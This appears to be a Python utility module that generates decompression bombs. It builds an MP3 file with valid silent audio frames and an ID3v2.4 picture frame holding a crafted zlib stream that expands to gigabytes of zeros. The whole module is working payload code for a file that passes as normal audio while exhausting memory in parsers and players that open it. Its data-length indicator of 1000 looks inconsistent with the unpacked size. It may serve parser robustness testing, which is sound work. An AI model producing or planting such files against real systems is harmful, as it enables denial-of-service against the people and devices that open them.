"""Files that unpack into far more memory than a machine has; they are small, and made in no time."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

CHUNK = 1 << 26


def bomb(path: Path, unpacked: int = 8 << 30) -> Path:
    """An MP3 whose picture is an ID3v2.4 frame of `unpacked` zeros, compressed a thousandfold."""
    packed = _zeros(unpacked)
    # Section 4.1.2 of ID3v2.4: compressed (8), with a data length indicator (1).
    frame = b"APIC" + _synchsafe(len(packed) + 4) + b"\0\x09" + _synchsafe(1000) + packed
    # Two frames of silence: 128 kbit/s, 44.1 kHz, 417 bytes each.
    sound = (b"\xff\xfb\x90\x00" + b"\0" * 413) * 2
    path.write_bytes(b"ID3\x04\0\0" + _synchsafe(len(frame)) + frame + sound)
    return path


def _synchsafe(number: int) -> bytes:
    return bytes(number >> shift & 127 for shift in (21, 14, 7, 0))


def _zeros(count: int) -> bytes:
    """A zlib stream of so many zeros: the same block again and again (RFC 1950, RFC 1951)."""
    assert count % CHUNK == 0
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(CHUNK)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = b"\x03\0"
    checksum = struct.pack(">I", count % 65521 << 16 | 1)
    return b"\x78\xda" + block * (count // CHUNK) + last + checksum
